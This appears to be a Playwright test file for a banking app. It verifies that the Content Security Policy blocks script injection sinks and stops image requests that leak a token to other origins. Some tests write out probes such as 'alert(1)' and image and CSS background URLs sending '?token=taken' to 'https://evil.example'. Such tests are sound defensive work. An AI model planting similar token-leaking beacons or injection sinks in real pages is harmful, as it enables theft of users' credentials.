import { linkingOriginFor } from '@coffer/branding/linking-host'
import type { Frame, Page } from '@playwright/test'
import { type Bank, expect, test } from '../journey.ts'
import { startSession } from '../people/browser-session.ts'
import { linkInstantly, openLinkingWindow } from '../people/linking.ts'
import { linkingFrame } from '../people/linking-page.ts'
import { enter, heading } from '../people/log-in.ts'
import { demoDepositor } from '../people/person.ts'
import { collectViolations } from '../people/policy-violations.ts'
import { operatorHost, operatorKey } from '../provider/provider.ts'

const linkingPath = '/registration/link-account-selection'

async function openConsole(page: Page, { origin }: Bank): Promise<void> {
  await page.goto(`http://${operatorHost}:${new URL(origin).port}/sandbox#${operatorKey}`)
  await expect(page.getByRole('region', { name: 'Outbox' })).toBeVisible()
}

/** The result of each way to turn text into code: `admitted`, or the name of the error. */
const injections = (frame: Page | Frame): Promise<Record<string, string>> =>
  frame.evaluate(() => {
    const attempts: Record<string, () => unknown> = {
      'text as HTML': () => Reflect.set(document.createElement('div'), 'innerHTML', '<b>bold</b>'),
      'text as a document': () => new DOMParser().parseFromString('<b>bold</b>', 'text/html'),
      'text as the document of a frame': () =>
        Reflect.set(document.createElement('iframe'), 'srcdoc', '<b>bold</b>'),
      'text as the address of a script': () =>
        Reflect.set(document.createElement('script'), 'src', '/login.js'),
      'text as a script': () => Reflect.set(document.createElement('script'), 'text', 'alert(1)'),
      'a policy of its own': () => {
        const factory: unknown = Reflect.get(window, 'trustedTypes')
        const create: unknown = typeof factory === 'object' && factory && Reflect.get(factory, 'createPolicy')
        if (typeof create === 'function') Reflect.apply(create, factory, ['injected', {}])
      },
    }
    const outcomeOf = (attempt: () => unknown): string => {
      try {
        attempt()
        return 'admitted'
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown'
      }
    }
    return Object.fromEntries(Object.entries(attempts).map(([name, attempt]) => [name, outcomeOf(attempt)]))
  })

const refused = {
  'text as HTML': 'TypeError',
  'text as a document': 'TypeError',
  'text as the document of a frame': 'TypeError',
  'text as the address of a script': 'TypeError',
  'text as a script': 'TypeError',
  'a policy of its own': 'TypeError',
}

test('The policy of every kind of page refuses a script that turns text into markup or code', async ({
  page,
  bankOf,
}) => {
  const person = demoDepositor(bankOf('harbor'), 'passed')
  const { bank } = person
  for (const path of ['/login', '/404.html'])
    await test.step(path, async () => {
      await page.goto(`${bank.origin}${path}`)
      expect(await injections(page)).toEqual(refused)
    })
  await startSession(page, person)
  await page.goto(`${bank.origin}${linkingPath}`)
  await openLinkingWindow(page, person)
  await expect(linkingFrame(page).getByRole('button', { name: 'Ally Bank' })).toBeVisible()
  // The application, the linking page, and the service in it.
  expect(page.frames()).toHaveLength(3)
  for (const frame of page.frames()) expect(await injections(frame)).toEqual(refused)
  await openConsole(page, bank)
  expect(await injections(page)).toEqual(refused)
})

test('The policy refuses a planted image of another origin, which exfiltrates nothing', async ({
  page,
  bankOf,
}) => {
  const person = demoDepositor(bankOf('harbor'), 'active')
  const { origin } = person.bank
  const refusals = await collectViolations(page.context())
  const requested: string[] = []
  await page.context().route(/\?token=/, (route) => {
    requested.push(new URL(route.request().url()).origin)
    return route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' })
  })
  await startSession(page, person)
  await page.goto(`${origin}/dashboard`)
  await expect(heading(page, person.say('dashboard:home.title', { name: 'Amelia' }))).toBeVisible()
  const outcomeOf = (address: string) =>
    page.evaluate(
      (src) =>
        new Promise<string>((resolve) => {
          const image = document.createElement('img')
          image.addEventListener('load', () => resolve('loaded'))
          image.addEventListener('error', () => resolve('refused'))
          image.src = src
          document.body.append(image)
        }),
      `${address}/?token=taken`,
    )
  const others = ['https://evil.example', 'http://juniper.localhost', linkingOriginFor(origin)]
  for (const other of others) expect(await outcomeOf(other), other).toBe('refused')
  expect(await outcomeOf(origin)).toBe('loaded')
  expect(requested).toEqual([origin])
  await expect
    .poll(() => refusals.filter((refusal) => refusal.includes(': img-src ')).length)
    .toBe(others.length)
  // The same as a background image.
  await page.evaluate(() => {
    document.body.style.backgroundImage = 'url("https://evil.example/?token=taken")'
  })
  await expect
    .poll(() => refusals.filter((refusal) => refusal.includes(': img-src ')).length)
    .toBe(others.length + 1)
  expect(requested).toEqual([origin])
})

test('The policy refuses nothing that a depositor’s pages do: log-in, linking and answers as HTML', async ({
  page,
  ownBankOf,
}) => {
  const violations = await collectViolations(page.context())
  const person = demoDepositor(ownBankOf('harbor'), 'passed')
  const { bank, say } = person
  await enter(page, person)
  await page.goto(`${bank.origin}${linkingPath}`)
  await expect(heading(page, say('linking:link.title'))).toBeVisible()
  await linkInstantly(page, person)
  await page.goto(`${bank.origin}/faq`)
  await expect(page.getByText(/^A deposit made before 4:00 PM Eastern/)).toBeAttached()
  expect(violations).toEqual([])
  // Violations are collected.
  await injections(page)
  await expect.poll(() => violations.length).toBeGreaterThan(0)
})

test('The policy refuses nothing that the console does, including an email with its logo', async ({
  page,
  bankOf,
}) => {
  const violations = await collectViolations(page.context())
  const person = demoDepositor(bankOf('harbor'), 'passed')
  await startSession(page, person)
  await openConsole(page, person.bank)
  const outbox = page.getByRole('region', { name: 'Outbox' })
  await outbox.getByRole('row').filter({ hasText: person.email }).first().getByRole('button').click()
  const logo = outbox.frameLocator('iframe').getByRole('img')
  await expect.poll(() => logo.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0)
  expect(violations).toEqual([])
})
